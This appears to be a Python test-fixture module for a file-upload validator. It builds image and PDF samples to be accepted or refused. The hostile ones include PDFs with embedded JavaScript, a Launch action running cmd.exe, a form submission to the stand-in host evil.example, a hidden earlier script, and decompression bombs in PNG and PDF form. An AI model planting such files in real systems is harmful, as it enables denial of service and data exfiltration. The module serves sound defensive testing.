"""Files of every kind that the desk takes or refuses, made here."""

import zlib
from io import BytesIO

import pikepdf
import pillow_heif
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

GPS = 0x8825
ORIENTATION = 0x0112
SECRET = "Elm Street 7"


def upload(content, name="scan.pdf", content_type="application/pdf"):
    """A file as a form brings it, under whatever name."""
    return SimpleUploadedFile(name, content, content_type)


def picture(size=(60, 40), color="red", mode="RGB"):
    """One color, with a blue corner at the top left."""
    image = Image.new(mode, size, color)
    if mode == "RGB":
        ImageDraw.Draw(image).rectangle((0, 0, 9, 9), fill="blue")
    return image


def exif(orientation=1):
    """What a telephone writes beside a picture: where it was taken, and which way is up."""
    facts = Image.Exif()
    facts[ORIENTATION] = orientation
    facts[0x010E] = SECRET
    facts.get_ifd(GPS).update({1: "N", 2: (37.0, 48.0, 0.0), 3: "W", 4: (122.0, 12.0, 0.0)})
    return facts


def image(format="PNG", picture_=None, **options):
    buffer = BytesIO()
    (picture_ or picture()).save(buffer, format, **options)
    return buffer.getvalue()


def png():
    return image("PNG")


def large_png():
    return image("PNG", picture((600, 800)))


def jpeg(**options):
    return image("JPEG", quality=95, **options)


def webp():
    return image("WEBP", lossless=True)


def heic(**options):
    file = pillow_heif.from_pillow(picture((64, 48)))
    buffer = BytesIO()
    file.save(buffer, quality=90, **options)
    return buffer.getvalue()


def moving(format):
    frames = [picture(color=color) for color in ("red", "green")]
    return image(format, frames[0], save_all=True, append_images=frames[1:])


def png_text():
    text = PngInfo()
    text.add_text("Comment", SECRET)
    return text


def swapped_profile():
    """A profile whose red is sRGB's blue, and the other way around."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    red, blue = profile.index(b"rXYZ"), profile.index(b"bXYZ")
    profile[red : red + 4], profile[blue : blue + 4] = b"bXYZ", b"rXYZ"
    return bytes(profile)


def bomb():
    """A PNG of some hundred bytes that says it has 2,500,000,000 pixels."""
    content = bytearray(image("PNG", picture(mode="L", color=0)))
    content[16:24] = (50_000).to_bytes(4, "big") * 2
    content[29:33] = crc(content[12:29])
    return bytes(content)


def crc(chunk):
    return zlib.crc32(bytes(chunk)).to_bytes(4, "big")


def pdf(change=None, pages=1, **options):
    """A PDF of empty pages; `change` adds to it."""
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page(page_size=(300, 400))
        if change:
            change(document)
        buffer = BytesIO()
        document.save(buffer, **options)
    return buffer.getvalue()


def script():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opens_with_script(document):
    document.Root.OpenAction = script()


def script_by_name(document):
    tree = Dictionary(Names=Array([String("a"), document.make_indirect(script())]))
    document.Root.Names = Dictionary(JavaScript=tree)


def script_on_a_page(document):
    document.pages[0].obj.AA = Dictionary(O=script())


def script_that_nobody_refers_to(document):
    document.Root.Elsewhere = document.make_indirect(Dictionary(Deep=Array([Array([script()])])))


def launches(document):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def embeds(document):
    document.attachments["notes.txt"] = b"hidden"


def attaches(document):
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])


def plays(document):
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    document.pages[0].obj.Annots = Array([document.make_indirect(film)])


def submits(document):
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))


def has_xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp/>"))


def links_to_the_web(document):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String("https://www.ncbahm.org/")),
    )
    document.pages[0].obj.Annots = Array([link])


def has_a_plain_form(document):
    field = Dictionary(FT=Name.Tx, T=String("Name"), V=String("Mina Park"))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def opens_on_a_page(document):
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def unfolding_pdf():
    """A PDF of 2 MB, whose object stream is two gigabytes when it is unpacked."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 <</Type/Catalog>>") + packer.flush(zlib.Z_FULL_FLUSH)
    packed += 128 * (packer.compress(b" " * 2**24) + packer.flush(zlib.Z_FULL_FLUSH))
    packed += packer.flush()
    head = b"%PDF-1.7\n"
    stream = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    body = stream % len(packed) + packed + b"\nendstream endobj\n"
    # Object 1 stands in object stream 5; the table itself is object 6.
    rows = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + bytes([index])
        for kind, place, index in [
            *((0, 0, 0), (2, 5, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0)),
            *((1, len(head), 0), (1, len(head) + len(body), 0)),
        ]
    )
    table = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    start = len(head) + len(body)
    return head + body + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % start


def with_an_earlier_script():
    """A PDF that opened with a script, until its catalog was replaced at the end of the file."""
    content = pdf(opens_with_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    earlier = content.rsplit(b"startxref")[-1].split()[0]
    with pikepdf.open(BytesIO(content)) as document:
        root, pages = (part.objgen[0] for part in (document.Root, document.Root.Pages))
        size = len(document.objects) + 1
    catalog = b"%d 0 obj<</Type/Catalog/Pages %d 0 R>>endobj\n" % (root, pages)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (root, len(content))
    trailer = b"trailer<</Size %d/Root %d 0 R/Prev %s>>\n" % (size, root, earlier)
    end = b"startxref\n%d\n%%%%EOF\n" % (len(content) + len(catalog))
    return content + catalog + table + trailer + end
